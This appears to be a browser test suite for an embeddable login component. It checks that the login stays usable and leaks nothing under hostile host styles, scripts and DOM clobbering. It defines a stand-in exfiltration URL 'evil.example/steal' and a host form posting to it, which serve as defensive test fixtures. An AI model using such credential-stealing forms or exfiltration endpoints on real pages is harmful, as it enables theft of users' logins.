import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { DEMO_PASSWORD } from '../demo/seed.ts';
import { clobbering, hostGlobals } from './hostile/globals.ts';
import { hostSheets } from './hostile/sheets.ts';
import { eventually, focused, typed } from './steady.ts';
import type { Person } from './person.ts';
import { openWorld, type World } from './world.ts';

const EVIL = 'https://evil.example/steal';
const EMAIL = 'ada@acme.example';

/** In the page: what a person can make of a control. */
const look = (node: Element) => {
  const box = node.getBoundingClientRect();
  const style = getComputedStyle(node);
  const middle = node.getRootNode() as Document | ShadowRoot;
  const hit = middle.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
  const numbers = (colour: string): [number, number, number] => {
    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
    if (!canvas) return [0, 0, 0];
    canvas.fillStyle = '#fff';
    canvas.fillRect(0, 0, 1, 1);
    canvas.fillStyle = colour;
    canvas.fillRect(0, 0, 1, 1);
    const [red = 0, green = 0, blue = 0] = canvas.getImageData(0, 0, 1, 1).data;
    return [red, green, blue];
  };
  /** Of what stands behind the text. */
  const groundOf = (from: Element): string => {
    for (
      let one: Element | null = from;
      one;
      one =
        one.assignedSlot ??
        one.parentElement ??
        (one.getRootNode() instanceof ShadowRoot ? (one.getRootNode() as ShadowRoot).host : null)
    ) {
      const { backgroundColor } = getComputedStyle(one);
      if (!/^(transparent|.*[,/] ?0\))$/.test(backgroundColor)) return backgroundColor;
    }
    return '#fff';
  };
  const luminance = (colour: string): number =>
    numbers(colour).reduce((sum, value, at) => {
      const part = value / 255;
      return (
        sum + (part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4) * ([0.2126, 0.7152, 0.0722][at] ?? 0)
      );
    }, 0);
  const [text, ground] = [luminance(style.color), luminance(groundOf(node))];
  return {
    width: box.width,
    height: box.height,
    fontSize: Number.parseFloat(style.fontSize),
    contrast: (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05),
    onTop: hit === node || (!!hit && node.contains(hit)),
    shown: node.checkVisibility({ opacityProperty: true, visibilityProperty: true }) && style.clipPath === 'none',
  };
};

async function usable(control: Locator, name: string, least = 28): Promise<void> {
  await control.waitFor();
  await control.scrollIntoViewIfNeeded();
  const seen = await control.evaluate(look);
  assert.ok(seen.shown && seen.onTop, `${name} is seen: ${JSON.stringify(seen)}`);
  assert.ok(
    seen.width >= 180 && seen.height >= least && seen.height <= 80,
    `${name} is a field in size: ${JSON.stringify(seen)}`,
  );
  assert.ok(seen.fontSize >= 12 && seen.contrast >= 4.5, `${name} can be read: ${JSON.stringify(seen)}`);
}

/** A person signs in, by eyes, keys and labels alone. */
async function signIn(page: Page, box = page.locator('auth-login')): Promise<void> {
  const identifier = box.getByLabel('Email', { exact: false }).first();
  await usable(identifier, 'the identifier');
  await identifier.click();
  await typed(identifier, EMAIL);
  const button = box.locator('button[type=submit]');
  await usable(button, 'the button');
  await button.click();
  const password = box.getByLabel('Password', { exact: true });
  await usable(password, 'the password');
  await focused(password);
  await typed(password, DEMO_PASSWORD);
  await usable(button, 'the button of the second step');
  await button.click();
}

/** Every second one in each run, all of them before a release. */
const chosen = <Item>(all: readonly Item[]): readonly Item[] =>
  process.env['SOAK'] ? all : all.filter((_, at) => at % 2 === 0);

describe('hosts that mean no good (ELE-14)', () => {
  let world: World;
  before(async () => (world = await openWorld()));
  after(() => world.close());

  /** Everything that leaves the browser, and where to. */
  async function visitor(): Promise<{ person: Person; page: Page; elsewhere: string[]; leaks: string[] }> {
    const person = await world.person();
    const page = await person.context.newPage();
    const [elsewhere, leaks]: [string[], string[]] = [[], []];
    page.on('request', (request) => {
      const { origin } = new URL(request.url());
      if (![world.app, world.publicUrl].includes(origin)) elsewhere.push(request.url());
      const sent = `${request.url()} ${JSON.stringify(request.headers())}`;
      if (
        sent.includes(DEMO_PASSWORD) ||
        (origin !== world.publicUrl && (request.postData() ?? '').includes(DEMO_PASSWORD))
      )
        leaks.push(request.url());
    });
    return { person, page, elsewhere, leaks };
  }

  it('are twelve style sheets and more', () => assert.ok(Object.keys(hostSheets).length >= 12, 'fewer than twelve'));

  for (const [name, css] of chosen(Object.entries(hostSheets)))
    it(`the login can be seen, typed into and submitted under ${name}`, async () => {
      const { person, page, elsewhere, leaks } = await visitor();
      world.serve('/host.css', () => new Response(css, { headers: { 'content-type': 'text/css' } }));
      world.write('/host', '<div id="app"><auth-login></auth-login></div>', {
        head: '<link rel="stylesheet" href="/host.css"><script type="module" src="/gatehouse/all.js"></script>',
      });
      // The people of the tenant, in the same session and under the same sheet.
      world.write('/people', '<div id="app"><admin-users-table></admin-users-table></div>', {
        head: '<link rel="stylesheet" href="/host.css"><script type="module" src="/gatehouse/all.js"></script>',
      });
      await page.goto('/host?redirectUrl=/people');
      await signIn(page);
      await page.waitForURL('**/people');
      const search = page.getByRole('searchbox');
      await usable(search, 'the search', 18); // its box is the field
      await search.click();
      await typed(search, 'grace');
      assert.deepEqual([elsewhere, leaks], [[], []]);
      person.contented();
      await person.context.close();
    });

  for (const [name, script] of chosen(Object.entries(hostGlobals)))
    it(`the login works and tells nobody else with ${name}`, async () => {
      const { person, page, elsewhere, leaks } = await visitor();
      world.serve(
        '/host.js',
        () =>
          new Response(script.replaceAll('EVIL', JSON.stringify(EVIL)), {
            headers: { 'content-type': 'text/javascript' },
          }),
      );
      world.write('/host', '<auth-login></auth-login>', {
        head: '<script src="/host.js"></script><script type="module" src="/gatehouse/all.js"></script>',
      });
      await page.goto('/host?redirectUrl=/users');
      await signIn(page);
      await page.waitForURL('**/users');
      assert.deepEqual([elsewhere, leaks], [[], []]);
      person.contented();
      await person.context.close();
    });

  it('nodes named like what scripts read configure nothing (ELE-13)', async () => {
    const { person, page, elsewhere, leaks } = await visitor();
    world.write('/host', `${clobbering.replaceAll('EVIL', EVIL)}<auth-login></auth-login>`);
    world.write(
      '/inside',
      `${clobbering.replaceAll('EVIL', EVIL)}<auth-gate when="signed-in" app="default"><template><p id="inside">Inside</p></template></auth-gate>`,
    );
    await page.goto('/host?redirectUrl=/inside');
    await signIn(page);
    await page.locator('#inside').waitFor();
    await eventually(() => new URL(page.url()).pathname, '/inside');
    assert.deepEqual([elsewhere, leaks], [[], []]);
    person.contented();
    await person.context.close();
  });

  it('a form of the page around the login is not submitted with it', async () => {
    const { person, page, elsewhere, leaks } = await visitor();
    world.write('/host', `<form name="theirs" action="${EVIL}"><input name="submit"><auth-login></auth-login></form>`);
    await page.goto('/host?redirectUrl=/users');
    await signIn(page);
    await page.waitForURL('**/users');
    assert.deepEqual([elsewhere, leaks], [[], []]);
    await person.context.close();
  });
});
